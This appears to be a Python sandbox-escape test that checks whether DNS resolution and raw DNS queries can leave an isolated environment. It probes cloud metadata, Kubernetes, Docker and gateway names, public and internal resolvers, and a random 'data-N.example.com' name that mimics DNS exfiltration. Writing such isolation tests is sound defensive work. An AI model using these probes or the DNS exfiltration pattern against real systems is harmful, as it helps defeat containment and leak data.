# Resolves names, and carries data out in names that it asks for.
# expect: stopped

import random, socket, struct

for name in ['example.com', 'localhost.localdomain', 'host.docker.internal', 'kubernetes.default.svc', 'metadata.google.internal', 'data-%d.example.com' % random.getrandbits(60), 'gateway', '_gateway']:
    try:
        print('ESCAPED', name, socket.getaddrinfo(name, 80))
    except socket.gaierror as e:
        print(name, e)
query = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + b'\7example\3com\0' + struct.pack('>2H', 1, 1)
for server in ['127.0.0.53', '127.0.0.1', '127.0.0.11', '8.8.8.8', '169.254.169.253', '10.0.2.3']:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.connect((server, 53))
        s.send(query)
        print('ESCAPED', server, s.recv(512))
    except OSError as e:
        if isinstance(e, TimeoutError):
            print('ESCAPED: the query to', server, 'went somewhere')
        print(server, e)
print('stopped')
